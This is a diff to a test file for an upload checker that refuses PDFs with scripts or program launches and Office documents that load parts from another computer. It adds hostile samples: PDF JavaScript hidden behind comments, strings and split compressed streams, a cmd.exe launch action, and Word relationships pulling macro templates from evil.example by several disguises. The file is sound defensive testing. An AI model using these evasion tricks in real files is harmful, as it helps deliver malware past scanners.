@@ -1,4 +1,4 @@
-import { deflateSync } from 'node:zlib';
+import { constants, deflateRawSync, deflateSync } from 'node:zlib';
 import { describe, expect, test } from 'vitest';
 import { zipOf } from '../local/test-zip.ts';
 import { documentFault } from './document-faults.ts';
@@ -17,6 +17,15 @@ const packed = (objects: string, filter = '/Filter /FlateDecode') => {
   );
 };
 
+/** Objects that are packed in two blocks, the first of them readable. */
+const split = (() => {
+  const objects = ['3 0 (endstream)', '<< /S /JavaScript /JS (app.alert(1)) >>'];
+  const whole = deflateSync(Buffer.from(objects.join('')));
+  const readable = deflateRawSync(Buffer.from(objects[0] ?? ''), { level: 0, finishFlush: constants.Z_SYNC_FLUSH });
+  const rest = deflateRawSync(Buffer.from(objects[1] ?? ''));
+  return Buffer.concat([whole.subarray(0, 2), readable, rest, whole.subarray(-4)]).toString('latin1');
+})();
+
 describe('a PDF', () => {
   test('with text, links and forms is taken', async () => {
     expect(await fault(pdf('2 0 obj\n<< /Type /Catalog /OpenAction [4 0 R /Fit] >>\nendobj'), 'pdf')).toBeNull();
@@ -29,6 +38,20 @@ describe('a PDF', () => {
     ['a script under an escaped name', pdf('2 0 obj\n<< /S /J#61vaScript /J#53 4 0 R >>\nendobj')],
     ['a script in a packed object', packed('<< /S/JavaScript/JS(app.alert(1)) >>')],
     ['a script in an object stream that is not packed', packed('<< /S /JavaScript >>', '')],
+    ['a script behind a comment', pdf('%stream\n2 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n%endstream')],
+    [
+      'a script behind a string',
+      pdf('2 0 obj\n(stream\n)\nendobj\n3 0 obj\n<< /JS (app.alert(1)) /S 4 0 R >>\nendobj'),
+    ],
+    [
+      'a script that a table of positions finds',
+      pdf('2 0 obj\n<<>>\nstream\n3 0 obj\n<< /S /JavaScript >>\nendstream'),
+    ],
+    ['a script in objects that are not named so', pdf(`2 0 obj\n<< /N 1 >>\nstream\n${split}\nendstream`)],
+    [
+      'a script behind the word that ends objects',
+      pdf(`2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n${split}\nendstream`),
+    ],
     ['the start of a program', pdf('2 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj')],
   ])('with %s is refused', async (_what, file) => {
     expect(await fault(file, 'pdf')).toMatch(/^This PDF contains a script or starts a program/);
@@ -37,6 +60,11 @@ describe('a PDF', () => {
   test('that cannot be looked into is refused, and the work is bounded', async () => {
     expect(await fault(pdf('2 0 obj\n<< /Encrypt 9 0 R >>\nendobj'), 'pdf')).toMatch(/is protected/);
     expect(await fault(packed('<< >>', '/Filter /LZWDecode'), 'pdf')).toMatch(/cannot be read/);
+    const scrambled = '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>';
+    expect(await fault(packed('<< >>', scrambled), 'pdf')).toMatch(/cannot be read/);
+    for (const lines of ['/S%', '%/S%/S\n', 'stream\nx\x9c']) {
+      await fault(pdf(lines.repeat(100_000)), 'pdf');
+    }
     // 64 MB of spaces in 64 KB.
     expect(await fault(packed(' '.repeat(64 * 1024 * 1024)), 'pdf')).toMatch(/cannot be read/);
   });
@@ -58,7 +86,28 @@ describe('a ZIP or an Office document', () => {
     expect(await fault(zipOf({ ...parts, [name]: 'x' }), extension)).toMatch(/contains macros/);
   });
 
+  const linked = (kind: string, target: string) => {
+    const type = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}`;
+    const relationship = `<Relationship Id="r" Type="${type}" Target="${target}" TargetMode="External"/>`;
+    return zipOf({ ...parts, 'word/_rels/settings.xml.rels': `<Relationships>${relationship}</Relationships>` });
+  };
+
   test.each([
+    ['attachedTemplate', 'https://evil.example/macros.dotm'],
+    ['attachedTemplate', 'file:///\\\\evil.example\\macros.dotm'],
+    ['attachedTemplate', '&#x68;ttp://evil.example/macros.dotm'],
+    ['oleObject', 'mhtml:https://evil.example/page.html!x-usc:https://evil.example/page.html'],
+  ])('with a %s that is loaded from %s is refused', async (kind, target) => {
+    expect(await fault(linked(kind, target), 'docx')).toMatch(/loads a part of itself from another computer/);
+  });
+
+  test('with links to pages, and the template on the writer’s own computer, is taken', async () => {
+    expect(await fault(linked('hyperlink', 'https://example.org/'), 'docx')).toBeNull();
+    expect(await fault(linked('attachedTemplate', 'file:///C:\\Users\\Ada\\Resume.dotx'), 'docx')).toBeNull();
+  });
+
+  test.each([
+    ['one that hides its sizes', zipOf({ 'zeros.bin': 'x'.repeat(1000) }, { unpacked: 10 }), /cannot be read/],
     ['a bomb', zipOf({ 'zeros.bin': 'x'.repeat(1000) }, { unpacked: 400 * 1024 * 1024 }), /too large/],
     ['a huge one', zipOf({ 'a.bin': 'x'.repeat(4 * 1024 * 1024) }, { unpacked: 600 * 1024 * 1024 }), /too large/],
     ['one with a password', zipOf(parts, { isEncrypted: true }), /has a password/],
